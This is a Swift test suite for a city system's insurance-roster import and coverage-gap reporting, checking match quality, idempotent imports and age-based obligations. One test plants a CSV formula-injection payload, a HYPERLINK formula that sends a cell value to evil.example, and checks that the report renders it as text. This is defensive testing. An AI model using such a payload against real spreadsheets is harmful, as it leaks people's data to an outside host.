import Foundation
import GRDB
import KyoseiDomain
import KyoseiIntake
import KyoseiSampleData
import KyoseiReports
import KyoseiServices
import KyoseiStore
import Testing

@Suite struct InsuranceImportTests {
    let city: TestCity
    let sample: SampleCity
    var insurance: FileImport { FileImport(context: city.context) }

    init() throws {
        city = try TestCity()
        sample = SampleCity(residents: 3000, seed: 21, asOf: try LocalDate("2026-10-01"))
        let snapshot = try sample.writeSnapshot(to: city.folder, sequence: 1)
        _ = try FileImport(context: city.context).apply(snapshot.csvURL.path, as: .register, by: city.founder)
    }

    func count(_ sql: String) throws -> Int {
        try city.context.database.writer.read { db in try Int.fetchOne(db, sql: sql) ?? 0 }
    }

    @Test func aRosterIsMatchedAcrossScriptsAndMeetsTheQualityBar() throws {
        let roster = try sample.writeInsuranceRoster(to: city.folder, scheme: .nhi, source: "CITY", date: try LocalDate("2026-11-01"))
        let report = city.folder.appendingPathComponent("match.csv").path
        let outcome = try insurance.apply(roster.csvURL.path, as: .insurance(matchReport: report), by: city.founder)
        #expect(outcome.outcome == .applied)
        #expect(outcome.rows == roster.rowCount)
        let counts = try #require(outcome.roster)
        #expect(counts.matched + counts.review + counts.unmatched == outcome.applied)

        let registered = Set(try city.context.database.writer.read { db in try String.fetchAll(db, sql: "SELECT person_id FROM resident WHERE person_id IS NOT NULL") })
        let lines = try String(contentsOfFile: report, encoding: .utf8).split(separator: "\r\n").dropFirst()
        var truePositives = 0, falsePositives = 0, residentsInRoster = 0, reviewed = 0
        for line in lines {
            let fields = line.split(separator: ",", omittingEmptySubsequences: false).map(String.init)
            let truth = roster.truth[fields[0]].flatMap { $0 }.map(\.rawValue).flatMap { registered.contains($0) ? $0 : nil }
            if truth != nil { residentsInRoster += 1 }
            if fields[1] == "REVIEW" { reviewed += 1 }
            guard fields[1] == "MATCHED" else { continue }
            if fields[2] == truth { truePositives += 1 } else { falsePositives += 1 }
        }
        let precision = Double(truePositives) / Double(max(1, truePositives + falsePositives))
        let recall = Double(truePositives) / Double(max(1, residentsInRoster))
        let reviewShare = Double(reviewed) / Double(max(1, lines.count))
        #expect(precision >= 0.995, "precision \(precision)")
        #expect(recall >= 0.95, "recall \(recall)")
        #expect(reviewShare <= 0.05, "review share \(reviewShare)")
        #expect(try count("SELECT count(*) FROM enrollment WHERE resident_id IS NOT NULL") == truePositives + falsePositives)
        #expect(try count("SELECT count(*) FROM identity_review WHERE subject_entity = 'insurance_member'") == outcome.roster?.review)
    }

    /// A member number that is a formula opens as text in the match report, beside the person id.
    @Test func aFormulaInARosterOpensAsTextInTheMatchReport() throws {
        let roster = try sample.writeInsuranceRoster(to: city.folder, scheme: .nhi, source: "CITY", date: try LocalDate("2026-11-01"))
        let attack = #"=HYPERLINK("http://evil.example/?id="&C2,"click")"#
        let text = try String(contentsOf: roster.csvURL, encoding: .utf8)
        try text.replacingOccurrences(of: "M000000001,", with: CSVWriter.field(attack) + ",")
            .write(to: roster.csvURL, atomically: true, encoding: .utf8)
        let report = city.folder.appendingPathComponent("match.csv").path
        #expect(try insurance.apply(roster.csvURL.path, as: .insurance(matchReport: report), by: city.founder).outcome == .applied)
        let written = try String(contentsOfFile: report, encoding: .utf8)
        #expect(!written.contains(",=HYPERLINK") && !written.contains("\n=HYPERLINK") && !written.contains("\"=HYPERLINK"))
        let reader = CSVReader(text: written, fileName: "match.csv")
        var memberNumbers: [String] = []
        while let record = try reader.next() { memberNumbers.append(record.fields[0]) }
        #expect(memberNumbers.contains("'" + attack))
    }

    /// A `.partial` link another user planted beside the report never receives a row.
    @Test func aPlantedPartialLinkReceivesNothing() throws {
        let roster = try sample.writeInsuranceRoster(to: city.folder, scheme: .nhi, source: "CITY", date: try LocalDate("2026-11-01"))
        let report = city.folder.appendingPathComponent("match.csv").path
        let planted = city.folder.appendingPathComponent("collected.csv").path
        try FileManager.default.createSymbolicLink(atPath: report + ".partial", withDestinationPath: planted)
        let error = #expect(throws: ServiceError.self) {
            try insurance.apply(roster.csvURL.path, as: .insurance(matchReport: report), by: city.founder)
        }
        #expect(error?.description.contains("a file or a link is already there") == true)
        #expect(!FileManager.default.fileExists(atPath: planted))
        #expect(!FileManager.default.fileExists(atPath: report))
        #expect(try count("SELECT count(*) FROM enrollment") == 0, "nothing applied")

        FileManager.default.createFile(atPath: planted, contents: Data("theirs\n".utf8))
        #expect(throws: ServiceError.self) { try insurance.apply(roster.csvURL.path, as: .insurance(matchReport: report), by: city.founder) }
        #expect(try String(contentsOfFile: planted, encoding: .utf8) == "theirs\n")
    }

    /// The import's connection works with a small page cache and gives every later use of it
    /// the large one back, whether the roster was applied or held after its rows were matched.
    @Test func anImportGivesTheConnectionItsPageCacheBack() throws {
        func cacheSize() throws -> Int? {
            try city.context.database.writer.writeWithoutTransaction { try Int.fetchOne($0, sql: "PRAGMA cache_size") }
        }
        let roster = try sample.writeInsuranceRoster(to: city.folder, scheme: .nhi, source: "CITY", date: try LocalDate("2026-11-01"))
        #expect(try insurance.apply(roster.csvURL.path, as: .insurance(), by: city.founder).outcome == .applied)
        #expect(try cacheSize() == -PageCache.standardKiB)
        let shorter = try sample.writeInsuranceRoster(to: city.folder, scheme: .nhi, source: "CITY", date: try LocalDate("2026-12-01"),
                                                      share: 0.1, seed: 2)
        #expect(try insurance.apply(shorter.csvURL.path, as: .insurance(), by: city.founder).outcome == .held)
        #expect(try cacheSize() == -PageCache.standardKiB)
    }

    @Test func theSameRosterTwiceChangesNothingAndAnOlderOneIsRefused() throws {
        let roster = try sample.writeInsuranceRoster(to: city.folder, scheme: .nhi, source: "CITY", date: try LocalDate("2026-11-01"))
        _ = try insurance.apply(roster.csvURL.path, as: .insurance(), by: city.founder)
        let enrollments = try count("SELECT count(*) FROM enrollment")
        #expect(try insurance.apply(roster.csvURL.path, as: .insurance(), by: city.founder).outcome == .alreadyApplied)
        #expect(try count("SELECT count(*) FROM enrollment") == enrollments)
        let older = try sample.writeInsuranceRoster(to: city.folder, scheme: .nhi, source: "CITY", date: try LocalDate("2026-10-01"), seed: 2)
        let refused = try insurance.apply(older.csvURL.path, as: .insurance(matchReport: city.folder.appendingPathComponent("r.csv").path), by: city.founder)
        #expect(refused.outcome == .refused)
        #expect(refused.reason?.contains("newer") == true)
        #expect(!FileManager.default.fileExists(atPath: city.folder.appendingPathComponent("r.csv").path))
    }

    /// A member first listed by a roster has its enrollment inserted plainly; listed again in the
    /// same roster, the period is the one already written, replaced, and a second period is added.
    @Test func aMemberListedTwiceInOneRosterKeepsOneEnrollmentPerPeriod() throws {
        let roster = try sample.writeInsuranceRoster(to: city.folder, scheme: .nhi, source: "CITY", date: try LocalDate("2026-11-01"))
        var lines = try String(contentsOf: roster.csvURL, encoding: .utf8).split(separator: "\r\n").map(String.init)
        var again = lines[1].split(separator: ",", omittingEmptySubsequences: false).map(String.init)
        let member = again[2]
        again[3] = "DEPENDENT"
        var later = again
        later[8] = "2026-10-15"
        // The same period again two rows on, and a later period at the end of the file; the
        // roster is one batch, so each copy meets the member as the rows before it saved them.
        lines.insert(again.joined(separator: ","), at: 3)
        lines.append(later.joined(separator: ","))
        try (lines.joined(separator: "\r\n") + "\r\n").write(to: roster.csvURL, atomically: true, encoding: .utf8)
        let outcome = try insurance.apply(roster.csvURL.path, as: .insurance(), by: city.founder)
        #expect(outcome.outcome == .applied)
        #expect(outcome.applied == lines.count - 1)
        #expect(try count("SELECT count(*) FROM insurance_member WHERE member_number = '\(member)'") == 1)
        #expect(try count("""
            SELECT count(*) FROM enrollment JOIN insurance_member m ON m.id = enrollment.member_id
            WHERE m.member_number = '\(member)'
            """) == 2)
        #expect(try count("""
            SELECT count(*) FROM enrollment JOIN insurance_member m ON m.id = enrollment.member_id
            WHERE m.member_number = '\(member)' AND member_type = 'DEPENDENT'
            """) == 2)
        #expect(try count("SELECT count(*) FROM enrollment") == lines.count - 2)
    }

    @Test func membersARosterNoLongerListsEndOnItsDate() throws {
        let first = try sample.writeInsuranceRoster(to: city.folder, scheme: .ehi, source: "KENPO1", date: try LocalDate("2026-10-01"), share: 0.5)
        _ = try insurance.apply(first.csvURL.path, as: .insurance(), by: city.founder)
        let lines = try String(contentsOf: first.csvURL, encoding: .utf8).split(separator: "\r\n")
        let kept = [lines[0]] + lines.dropFirst().enumerated().filter { $0.offset % 2 == 0 }.map(\.element)
        let second = city.folder.appendingPathComponent("INS-EHI-KENPO1-2026-11-01.csv")
        try (kept.joined(separator: "\r\n") + "\r\n").write(to: second, atomically: true, encoding: .utf8)
        // Half the members ending is what this test is about; the guard would hold it otherwise.
        let outcome = try insurance.apply(second.path, as: .insurance(), acceptLargeChange: true, by: city.founder)
        let counts = try #require(outcome.roster)
        #expect(counts.ended == lines.count - kept.count)
        #expect(counts.known + counts.matched + counts.review + counts.unmatched == kept.count - 1)
        #expect(try count("SELECT count(*) FROM enrollment WHERE enrolled_until = '2026-11-01' AND ended_by_file_id IS NOT NULL") == outcome.roster?.ended)
    }

    @Test func aBrokenRosterIsRefusedWhole() throws {
        let roster = city.folder.appendingPathComponent("INS-NHI-CITY-2026-11-01.csv")
        try "scheme,insurer_number,member_number\nNHI,221309,\"M1\n".write(to: roster, atomically: true, encoding: .utf8)
        let outcome = try insurance.apply(roster.path, as: .insurance(), by: city.founder)
        #expect(outcome.outcome == .refused)
        #expect(try count("SELECT count(*) FROM intake_file WHERE kind = 'INSURANCE'") == 0)
    }
}

@Suite struct CoverageTests {
    let city: TestCity
    var today: LocalDate { city.context.clock.today }

    /// A few hundred other residents around the people under test: the matcher weighs a name by
    /// how rare it is among residents, which means nothing in a city of one.
    init() throws {
        city = try TestCity()
        let sample = SampleCity(residents: 400, seed: 4, asOf: try LocalDate("2026-10-01"))
        let snapshot = try sample.writeSnapshot(to: city.folder, sequence: 1)
        _ = try FileImport(context: city.context).apply(snapshot.csvURL.path, as: .register, by: city.founder)
    }

    /// Registers a person directly and enrolls them through a one-row roster.
    func person(_ name: String, born: String, kana: String, schemes: [(InsuranceScheme, exempt: Bool)]) throws -> Int64 {
        let id = try city.add(name, kana: kana, born: born).id
        try city.context.database.writer.write { db in
            try db.execute(sql: "UPDATE resident SET register_state = 'REGISTERED', person_id = ? WHERE id = ?",
                           arguments: [String(format: "%011d", id), id])
        }
        for (scheme, exempt) in schemes {
            let file = city.folder.appendingPathComponent("INS-\(scheme.rawValue)-S\(id)-2026-01-01.csv")
            let insurer = scheme == .nhi ? "221309" : "31000001"
            try """
            scheme,insurer_number,member_number,member_type,name_kana,birth_date,sex,residence_card_number,enrolled_from,enrolled_until,agreement_exempt
            \(scheme.rawValue),\(insurer),X\(id),INSURED,\(kana),\(born),1,,2020-01-01,,\(exempt ? "Y" : "")

            """.write(to: file, atomically: true, encoding: .utf8)
            let outcome = try FileImport(context: city.context).apply(file.path, as: .insurance(), by: city.founder)
            let counts = try #require(outcome.roster)
            #expect(counts.matched + counts.known == 1, "\(name) \(scheme) \(outcome)")
        }
        return id
    }

    func gaps() throws -> Set<String> {
        Set(try CoverageService(context: city.context).gaps(by: city.founder).map { "\($0.resident.nameLatin):\($0.obligation.rawValue)" })
    }

    @Test func obligationsFollowAgeAndExemption() throws {
        _ = try person("SILVA ANA", born: "1990-05-05", kana: "シルバ アナ", schemes: [(.nhi, false)])
        _ = try person("TANAKA ROSA", born: "1945-05-05", kana: "タナカ ロサ", schemes: [(.nhi, false)])
        _ = try person("KIM MINJUN", born: "1985-03-03", kana: "キム ミンジュン", schemes: [(.ehi, false), (.np, true)])
        _ = try person("LOPES ANDRE", born: "2012-02-02", kana: "ロペス アンドレ", schemes: [])
        let found = try gaps()
        #expect(found.contains("SILVA ANA:pension"))
        #expect(!found.contains("SILVA ANA:health"))
        #expect(found.contains("TANAKA ROSA:health"), "at 75+ only Late-Stage Elderly Medical Care meets the health obligation")
        #expect(!found.contains("TANAKA ROSA:pension"), "past 59 there is no pension obligation")
        #expect(!found.contains { $0.hasPrefix("KIM MINJUN") }, "a social-security agreement exempts from pension")
        #expect(found.contains("LOPES ANDRE:health"))
        #expect(!found.contains("LOPES ANDRE:pension"))
    }

    @Test func theCoverageGapRuleRaisesOnceAndResolvesWhenCovered() throws {
        let ana = try person("SILVA ANA", born: "1990-05-05", kana: "シルバ アナ", schemes: [(.nhi, false)])
        // A pension roster for someone else: from now on the pension obligation is evaluated.
        _ = try person("KIM MINJUN", born: "1985-03-03", kana: "キム ミンジュン", schemes: [(.np, false)])
        let rules = RulesService(context: city.context)
        let first = try rules.run(by: city.founder).first { $0.rule == "COVERAGE_GAP" }!
        #expect(first.raised == first.found)
        let anasCases = try CaseService(context: city.context).list({ var f = CaseFilter(); f.person = .kyosei(ana); return f }(), by: city.founder)
        #expect(anasCases.map(\.record.title) == ["No pension insurance on record"])
        #expect(try rules.run(by: city.founder).first { $0.rule == "COVERAGE_GAP" }!.raised == 0)
        let file = city.folder.appendingPathComponent("INS-NP-PENSION-2026-02-01.csv")
        try """
        scheme,insurer_number,member_number,member_type,name_kana,birth_date,sex,residence_card_number,enrolled_from,enrolled_until,agreement_exempt
        NP,31000002,P1,INSURED,ｼﾙﾊﾞ ｱﾅ,1990-05-05,1,,2026-01-15,,

        """.write(to: file, atomically: true, encoding: .utf8)
        #expect(try FileImport(context: city.context).apply(file.path, as: .insurance(), by: city.founder).roster?.matched == 1)
        let after = try rules.run(by: city.founder).first { $0.rule == "COVERAGE_GAP" }!
        #expect(after.autoResolved == 1, "\(after)")
        let coverage = try CoverageService(context: city.context).show(.kyosei(ana), by: city.founder)
        #expect(coverage.obligations == [.health: true, .pension: true])
    }

    @Test func theReportHasNoPersonAndWithholdsSmallCells() throws {
        _ = try person("SILVA ANA", born: "1990-05-05", kana: "シルバ アナ", schemes: [(.nhi, false)])
        let analyst = try city.member("ana", .analyst)
        let figures = try CoverageService(context: city.context).figures(by: .nationality, staff: analyst)
        #expect((figures["BR"]?[.health]?.covered ?? 0) == 1)
        #expect((figures["BR"]?[.health]?.obligated ?? 0) > 100)
        #expect(throws: ServiceError.self) { try CoverageService(context: city.context).gaps(by: analyst) }
    }
}
